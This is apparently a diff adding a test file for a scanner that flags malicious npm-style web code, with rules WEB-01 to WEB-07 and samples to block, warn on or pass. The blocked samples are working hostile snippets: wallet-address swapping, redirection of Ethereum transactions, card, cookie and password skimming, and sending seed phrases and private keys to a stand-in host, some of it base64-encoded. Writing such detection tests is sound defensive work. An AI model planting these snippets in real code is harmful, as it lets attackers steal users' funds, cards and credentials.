@@ -1,0 +1,153 @@
+import { base64, describeVerdicts } from "../../support/verdicts.ts";
+
+const url = "https://files.example.test/c";
+const address = (digit: string) => `0x${digit.repeat(40)}`;
+const table = Array.from({ length: 16 }, (_, index) => address(index.toString(16)));
+
+describeVerdicts("WEB-01", {
+  blocks: {
+    "addresses in answers": `
+      const mine = "${address("a")}";
+      const real = window.fetch;
+      window.fetch = async function (...args) {
+        const answer = await real.apply(this, args);
+        const text = (await answer.text()).replace(/0x[a-fA-F0-9]{40}/g, mine);
+        return new Response(text, answer);
+      };`,
+    "addresses in requests": `
+      const send = XMLHttpRequest.prototype.send;
+      XMLHttpRequest.prototype.send = function (body) {
+        return send.call(this, String(body).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, "${address("b")}"));
+      };`,
+  },
+  passes: {
+    "an interceptor that is asked for": `
+      exports.intercept = (onRequest) => {
+        const original = window.fetch;
+        window.fetch = function (...args) { onRequest(args[0]); return original.apply(this, args); };
+      };`,
+    "a validator": `exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);`,
+    "a formatter": `exports.short = (text) => text.replace(/^(0x[a-fA-F0-9]{4})[a-fA-F0-9]{32}/, "$1…");`,
+  },
+});
+
+describeVerdicts("WEB-02", {
+  blocks: {
+    "a recipient": `
+      const request = window.ethereum.request;
+      window.ethereum.request = function (call) {
+        if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
+        return request.call(this, call);
+      };`,
+  },
+  passes: {
+    "a connector": `exports.connect = () => window.ethereum.request({ method: "eth_requestAccounts" });`,
+    "a signer": `exports.send = (tx) => window.ethereum.request({ method: "eth_sendTransaction", params: [tx] });`,
+    constants: `exports.zero = "${address("0")}";`,
+  },
+});
+
+describeVerdicts("WEB-03", {
+  blocks: {
+    "a card": `
+      document.querySelector("form").addEventListener("submit", () => {
+        const card = document.querySelector("#card-number").value;
+        fetch("${url}", { method: "POST", body: card });
+      });`,
+    "cookies in an image": `new Image().src = "${url}?c=" + encodeURIComponent(document.cookie);`,
+    "to an encoded host": `
+      const u = atob("${base64(url)}");
+      document.addEventListener("change", (e) => navigator.sendBeacon(u, document.querySelector("input[type=password]").value));`,
+  },
+  passes: {
+    "a form of the caller": `exports.submit = (form, to) => fetch(to, { method: "POST", body: new FormData(form) });`,
+    "a value that is returned": `exports.value = (selector) => document.querySelector(selector).value;`,
+    "a page view": `fetch("${url}", { method: "POST", body: location.pathname });`,
+  },
+});
+
+describeVerdicts("WEB-04", {
+  blocks: {
+    "a table and a distance": `
+      const list = ${JSON.stringify(table)};
+      function distance(a, b) {
+        const d = Array.from({ length: a.length + 1 }, (_, i) => [i]);
+        for (let j = 1; j <= b.length; j++) d[0][j] = j;
+        for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++)
+          d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
+        return d[a.length][b.length];
+      }
+      exports.best = (a) => list.sort((x, y) => distance(a, x) - distance(a, y))[0];`,
+  },
+  passes: {
+    "addresses of contracts": `module.exports = ${JSON.stringify(Object.fromEntries(table.map((one, at) => [`t${at}`, one])))};`,
+    "a distance": `exports.levenshtein = (a, b) => Math.min(a.length + 1, b.length + 1);`,
+    "test vectors": {
+      files: {
+        "index.js": "module.exports = 1;",
+        "test/v.js": `const list = ${JSON.stringify(table)}; const levenshtein = 1;`,
+      },
+    },
+  },
+});
+
+describeVerdicts("WEB-05", {
+  blocks: {
+    "a phrase": `
+      exports.fromMnemonic = (mnemonic) => {
+        fetch("${url}", { method: "POST", body: JSON.stringify({ mnemonic }) });
+        return derive(mnemonic);
+      };
+      function derive(m) { return m.length; }`,
+    "a key in a header": `
+      class Keypair {
+        constructor(privateKey) {
+          this.key = privateKey;
+          require("https").get({ hostname: "files.example.test", headers: { "x-session": Buffer.from(privateKey).toString("base64") } });
+        }
+      }
+      module.exports = Keypair;`,
+  },
+  passes: {
+    "an address of the caller": `exports.send = (privateKey, rpc, tx) => fetch(rpc, { method: "POST", body: tx });`,
+    "a derivation": `exports.seed = (mnemonic) => require("crypto").pbkdf2Sync(mnemonic, "mnemonic", 2048, 64, "sha512");`,
+    "a price": `exports.price = (privateKey) => fetch("${url}").then((r) => r.json());`,
+  },
+});
+
+describeVerdicts("WEB-06", {
+  blocks: {
+    "an encoded address": `
+      const s = document.createElement("script");
+      s.src = atob("${base64("https://files.example.test/x.js")}");
+      document.head.appendChild(s);`,
+  },
+  warns: {
+    "a script of somebody else": `
+      const s = document.createElement("script");
+      s.src = "https://files.example.test/x.js";
+      document.head.appendChild(s);`,
+  },
+  passes: {
+    "a loader for its own brand": {
+      manifest: { name: "@acme/js" },
+      files: {
+        "index.js": `const s = document.createElement("script"); s.src = "https://js.acme.test/v3"; document.head.appendChild(s);`,
+      },
+    },
+    "a loader that is called": `exports.load = () => { const s = document.createElement("script"); s.src = "https://files.example.test/x.js"; document.head.appendChild(s); };`,
+    "an address of the caller": `exports.load = (src) => { const s = document.createElement("script"); s.src = src; document.head.appendChild(s); };`,
+  },
+});
+
+describeVerdicts("WEB-07", {
+  blocks: {},
+  warns: {
+    "a page that is led away": `window.location.href = "https://files.example.test/x";`,
+  },
+  passes: {
+    "a link that is followed when called": `exports.go = () => { window.location.href = "https://files.example.test/x"; };`,
+    "a place within the page": `window.location.hash = "#top";`,
+    "an address of the caller": `exports.go = (to) => window.location.assign(to);`,
+  },
+});
